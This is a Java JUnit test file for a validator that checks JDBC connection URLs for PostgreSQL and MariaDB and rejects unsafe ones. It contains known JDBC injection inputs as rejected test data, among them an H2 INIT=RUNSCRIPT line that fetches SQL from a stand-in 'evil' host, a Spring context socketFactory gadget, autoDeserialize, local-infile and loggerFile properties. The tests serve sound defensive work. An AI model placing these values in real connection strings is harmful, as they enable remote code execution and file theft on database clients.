package id.ossgateway.registry.check;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class JdbcUrlPolicyTest {

    private final JdbcUrlPolicy policy = new JdbcUrlPolicy();

    @Test
    void parsesAPostgresqlUrlWithSafePropertiesUnderTheirCanonicalNames() throws Exception {
        JdbcTarget target = policy.parse(
                "jdbc:postgresql://db.dinkes.go.id:5433/perizinan?SSLMODE=require&applicationname=oss-gateway");

        assertThat(target.driver()).isEqualTo(JdbcDriver.POSTGRESQL);
        assertThat(target.host()).isEqualTo("db.dinkes.go.id");
        assertThat(target.port()).isEqualTo(5433);
        assertThat(target.database()).isEqualTo("perizinan");
        assertThat(target.properties()).containsExactly(Map.entry("sslmode", "require"),
                Map.entry("ApplicationName", "oss-gateway"));
        assertThat(target.url(Map.of("connectTimeout", "5")))
                .isEqualTo("jdbc:postgresql://db.dinkes.go.id:5433/perizinan?sslmode=require&ApplicationName=oss-gateway&connectTimeout=5");
    }

    @Test
    void parsesAMariadbUrlWithDefaultPortAndIpv6Host() throws Exception {
        JdbcTarget target = policy.parse("jdbc:mariadb://[2001:db8::7]/simpel?sslMode=verify-full&connectTimeout=3000");

        assertThat(target.driver()).isEqualTo(JdbcDriver.MARIADB);
        assertThat(target.host()).isEqualTo("2001:db8::7");
        assertThat(target.port()).isEqualTo(3306);
        assertThat(target.url(Map.of())).isEqualTo("jdbc:mariadb://[2001:db8::7]:3306/simpel?sslMode=verify-full&connectTimeout=3000");
    }

    @Test
    void refusesMysqlSchemeAndSaysToUseMariadb() {
        assertThatThrownBy(() -> policy.parse("jdbc:mysql://db.go.id:3306/izin"))
                .isInstanceOf(BadSettingsException.class)
                .hasMessageContaining("write jdbc:mariadb://host[:port]/database instead");
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "jdbc:h2:mem:x",
        "jdbc:h2:tcp://db.go.id/x",
        "jdbc:derby://db.go.id:1527/x",
        "jdbc:sqlserver://db.go.id:1433",
        "jdbc:oracle:thin:@db.go.id:1521:x",
        "postgresql://db.go.id/x"})
    void refusesOtherDrivers(String url) {
        assertThatThrownBy(() -> policy.parse(url)).isInstanceOf(BadSettingsException.class)
                .hasMessageContaining("must be a PostgreSQL");
    }

    @Test
    void refusesH2InitScript() {
        assertThatThrownBy(() -> policy.parse("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'"))
                .isInstanceOf(BadSettingsException.class);
        assertThatThrownBy(() -> policy.parse("jdbc:postgresql://db.go.id/x?INIT=RUNSCRIPT"))
                .isInstanceOf(BadSettingsException.class).hasMessageContaining("property 'INIT'");
    }

    @ParameterizedTest
    @CsvSource({
        "jdbc:mariadb://db.go.id/x?allowLoadLocalInfile=true, allowLoadLocalInfile",
        "jdbc:mariadb://db.go.id/x?allowLocalInfile=true, allowLocalInfile",
        "jdbc:mariadb://db.go.id/x?ALLOWLOCALINFILE=true, ALLOWLOCALINFILE",
        "jdbc:mariadb://db.go.id/x?autoDeserialize=true, autoDeserialize",
        "jdbc:mariadb://db.go.id/x?localSocket=/var/run/mysqld.sock, localSocket",
        "jdbc:postgresql://db.go.id/x?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext, socketFactory",
        "jdbc:postgresql://db.go.id/x?sslfactory=x.Y, sslfactory",
        "jdbc:postgresql://db.go.id/x?loggerFile=/tmp/x, loggerFile",
        "jdbc:postgresql://db.go.id/x?sslmode=require&socketFactoryArg=x, socketFactoryArg",
        // safe for PostgreSQL, not a MariaDB property
        "jdbc:mariadb://db.go.id/x?currentSchema=a, currentSchema"})
    void refusesUnlistedPropertiesNamingThem(String url, String property) {
        assertThatThrownBy(() -> policy.parse(url)).isInstanceOf(BadSettingsException.class)
                .hasMessageContaining("property '" + property + "', which is not allowed")
                .hasMessageContaining("allowed: ");
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {
        "jdbc:postgresql://a.go.id,b.go.id/x | several hosts",
        "jdbc:mariadb://a.go.id:3306,b.go.id:3306/x | several hosts",
        "jdbc:mariadb:replication://a.go.id/x | must have the form jdbc:mariadb://",
        "jdbc:mariadb://address=(host=a.go.id)(port=3306)/x | exactly one host",
        "jdbc:postgresql:perizinan | must have the form jdbc:postgresql://",
        "JDBC:POSTGRESQL://db.go.id/x | must have the form jdbc:postgresql://",
        "jdbc:postgresql:///x?socketFactory=x | exactly one host",
        "jdbc:postgresql://db.go.id | must name the database",
        "jdbc:postgresql://db.go.id/ | must name the database",
        "jdbc:postgresql://db.go.id:99999/x | outside 1..65535",
        "jdbc:postgresql://db.go.id:0/x | outside 1..65535",
        "jdbc:postgresql://u:p@db.go.id/x | credentials do not go in the URL",
        "jdbc:postgresql://db.go.id/x?password=rahasia | must not carry 'password'",
        "jdbc:postgresql://db.go.id/x?USER=postgres | must not carry 'USER'",
        "jdbc:postgresql://db.go.id/x?sslmode=require&sslMode=disable | twice",
        "jdbc:postgresql://db.go.id/x?sslmode=bogus | value for property 'sslmode'",
        "jdbc:postgresql://db.go.id/x?connectTimeout=-1 | value for property 'connectTimeout'",
        "jdbc:postgresql://db.go.id/x?ssl | malformed property",
        "jdbc:postgresql://db.go.id/x?ssl=true&&readOnly=true | malformed property",
        "jdbc:postgresql://db.go.id/x?soc%6BetFactory=x | percent-encoded",
        "jdbc:postgresql://db.go.id/x y | spaces",
        "jdbc:postgresql://db.go.id/x/y | database name",
        "jdbc:postgresql://db.go.id/x#frag | '#'"})
    void refusesMalformedOrAmbiguousUrls(String url, String reason) {
        assertThatThrownBy(() -> policy.parse(url)).isInstanceOf(BadSettingsException.class)
                .hasMessageStartingWith("Setting 'jdbcUrl'").hasMessageContaining(reason);
    }

    @Test
    void neverEchoesAPasswordPutInTheUrl() {
        assertThatThrownBy(() -> policy.parse("jdbc:postgresql://db.go.id/x?password=Rahasia123"))
                .isInstanceOf(BadSettingsException.class).message().doesNotContain("Rahasia123");
    }

    @Test
    void unixSocketFactoryIsRefused() {
        assertThatThrownBy(() -> policy.parse(
                "jdbc:postgresql://localhost/x?socketFactory=org.newsclub.net.unix.AFUNIXSocketFactory$FactoryArg"))
                .isInstanceOf(BadSettingsException.class);
    }
}
